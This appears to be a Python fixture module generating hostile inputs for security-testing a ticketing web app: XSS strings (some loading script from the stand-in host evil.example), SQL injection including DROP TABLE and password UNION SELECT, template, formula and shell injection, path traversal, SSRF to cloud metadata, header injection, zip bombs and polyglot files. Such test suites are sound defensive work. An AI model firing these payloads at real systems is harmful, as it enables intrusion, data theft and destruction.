"""What hostile people, careless people and broken programs write, made anew each time.

`words` may all have been meant: they are kept as they were written and shown as text. `odd` holds
signs that hide, turn round or cannot be stored: cleaned or refused, never shown. The rest are
values of single fields.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from itertools import product

MARK = "zq7"
CALL = f"{MARK}()"


def words() -> list[str]:
    """About two hundred: markup, formulas, templates, statements, paths, headers."""
    return list(dict.fromkeys([*_markup(), *_formulas(), *_templates(), *_statements(), *_paths()]))


def _markup() -> Iterator[str]:
    events = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart")
    tags = (
        "img src=x",
        "svg",
        "body",
        "input autofocus",
        "details open",
        "video src=x",
        "a href=#",
    )
    for tag, event in product(tags, events):
        yield f"<{tag} {event}={CALL}>"
    for tag in ("script", "SCRIPT", "scr\tipt", "style", "iframe", "object", "template", "math", "noscript"):  # fmt: skip
        yield f"<{tag}>{CALL}</{tag}>"
        yield f"</textarea></title></{tag}><{tag} src=//evil.example/{MARK}.js></{tag}>"
    for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "vbscript:", "data:text/html,", " javascript:"):  # fmt: skip
        yield f"[x]({scheme}{CALL})"
        yield f'<a href="{scheme}{CALL}">x</a>'
        yield f"![x]({scheme}{CALL})"
    for quote in ("'", '"', "`", "\\'", '\\"', "&quot;", "&#39;"):
        yield f"{quote} autofocus onfocus={CALL} x={quote}"
        yield f"{quote}><script>{CALL}</script>"
    yield f"<!--><script>{CALL}</script-->"
    yield f"<![CDATA[<script>{CALL}</script>]]>"
    yield f"]]></script><script>{CALL}</script>"
    yield f'<div hx-get="/{MARK}" hx-trigger="load" hx-on:load="{CALL}">'
    yield f'<meta http-equiv=refresh content="0;url=//evil.example/{MARK}">'
    yield f"<base href=//evil.example/{MARK}/>"
    yield f'<form action="//evil.example/{MARK}"><button>x'
    yield f"＜script＞{CALL}＜/script＞"
    yield f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-"


def _formulas() -> Iterator[str]:
    for start in ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", '"=', " ="):
        yield f"{start}HYPERLINK(A1)&{MARK}"
        yield f"{start}cmd|'/c calc'!A0 {MARK}"


def _templates() -> Iterator[str]:
    for open_, shut in (("{{", "}}"), ("{%", "%}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("{", "}")):  # fmt: skip
        for inner in ("7*191", "''.__class__.__mro__", "load log", "settings.SECRET_KEY", "0.__init__.__globals__"):  # fmt: skip
            yield f"{open_}{inner}{shut} {MARK}"
    for each in ("%(message)s", "%s%s%n", "{客户.名称}", "$(id)", "`id`", "; id", "| id", "&& id"):
        yield f"{each} {MARK}"


def _statements() -> Iterator[str]:
    for quote in ("'", '"', "\\", "''", "$$", "%27", "\\x27"):
        yield f"{quote}; DROP TABLE tickets_ticket; -- {MARK}"
        yield f"{quote} OR 1=1 -- {MARK}"
        yield f"{quote}) UNION SELECT password FROM access_user -- {MARK}"  # noqa: S608 - words to be sent
    yield f"%_%%__[a-z]* {MARK}"
    yield f"'{'|' * 40}&!:*<-> {MARK}"


def _paths() -> Iterator[str]:
    for step in ("../", "..\\", "%2e%2e/", "....//", "/"):
        yield f"{step * 8}etc/passwd {MARK}"
    for each in ("CON", "file:///etc/passwd", "http://169.254.169.254/", "gopher://127.0.0.1:6379/_", "\\\\evil\\x"):  # fmt: skip
        yield f"{each} {MARK}"
    for each in (
        "Bcc: all@evil.example",
        "Set-Cookie: a=b",
        "HTTP/1.1 200 OK",
        "From: boss@maker.cn",
    ):
        yield f"{MARK}\n{each}\n\nx"


HIDDEN = "\x00\x01\x08\x1b\x7f\u202a\u202e\u2066\u2069\u200b\u200e\ufeff\ud800\udfff\ue000"


def odd() -> list[str]:
    """Each sign that hides, in the middle, in front and alone."""
    found = [text for sign in HIDDEN for text in (f"漏{sign}油", f"{sign}漏油", sign)]
    found += ["漏油" + "\u0301" * 3000, "﷽" * 900, "👨‍👩‍👧‍👦" * 300, "\r" * 500, "x" * 200_000]
    return found


def numbers() -> list[str]:
    signs = ("-1", "0", "1e309", "NaN", "Infinity", "0x10", "１２３", "²", "٣", "1_000", "1.5", "--1", "+1")  # fmt: skip
    return [*signs, *(str(2**n + k) for n in (31, 32, 63, 64, 128) for k in (-1, 0)), "9" * 400]


def moments() -> list[str]:
    return [
        "0001-01-01T00:00", "0000-00-00", "9999-12-31T23:59", "10000-01-01T00:00", "2026-02-30T10:00", "2026-13-01",
        "1800-01-01T00:00", "2026-03-10T25:00", "2026-03-10T09:00+99:00", "now", "-2026-01-01", "2026-W10-1", "9" * 30,
        "1969-12-31T23:59:60Z", "２０２６-03-10T09:00", "2026-03-10T09:00:00\x00",
    ]  # fmt: skip


def files() -> list[tuple[str, bytes]]:
    """Files that are not what they say, or are more than they say. None may be kept."""
    script = b"<script>" + CALL.encode() + b"</script>"
    return [
        ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + script + b"</svg>"), ("a.html", script),
        ("a.jpg", b"GIF89a/*" + script + b"*/=1;"), ("a.png", _png(60_000, 60_000)), ("b.png", b"\x89PNG\r\n\x1a\n" + script),
        ("a.pdf", b"<!doctype html>" + script + b"%PDF-1.7"), ("a.exe", b"MZ\x90\x00" + b"\0" * 200),
        ("a.zip", bomb()), ("a.docx", bomb()), ("a.xlsx", bomb()), ("a.xlsm", bomb()), ("a.jpg.exe", b"MZ" + b"\0" * 99),
        ("../../a.jpg", script), ("a.jpg\x00.html", script), ("\u202egpj.exe", b"MZ" + b"\0" * 99), ("CON", script),
        ("n" * 4000 + ".jpg", script), ("a.xml", b'<!DOCTYPE a [<!ENTITY b "' + b"x" * 999 + b'">]><a>&b;</a>'),
        ("a.jpg", b""), ("a.jpg", b"\xff\xd8\xff"), ("a.gz", zlib.compress(b"\0" * 10_000_000)), ("a.phar", b"<?php __HALT_COMPILER();"),
    ]  # fmt: skip


def bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("[Content_Types].xml", "word/document.xml", "xl/workbook.xml"):
            archive.writestr(name, b"\0" * 5_000_000)
    return out.getvalue()


def _png(width: int, height: int) -> bytes:
    """A picture that says it is this large, with one row of it."""

    def part(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))  # fmt: skip

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    body = zlib.compress(b"\0" * (width // 8 + 1))
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", body) + part(b"IEND", b"")


def packed(texts: list[str], room: int) -> list[str]:
    """The same as a few long texts, one below the other."""
    found, line = [], ""
    for each in texts:
        if line and len(line) + len(each) + 1 > room:
            found.append(line)
            line = ""
        line = f"{line}\n{each}" if line else each
    return [*found, line]
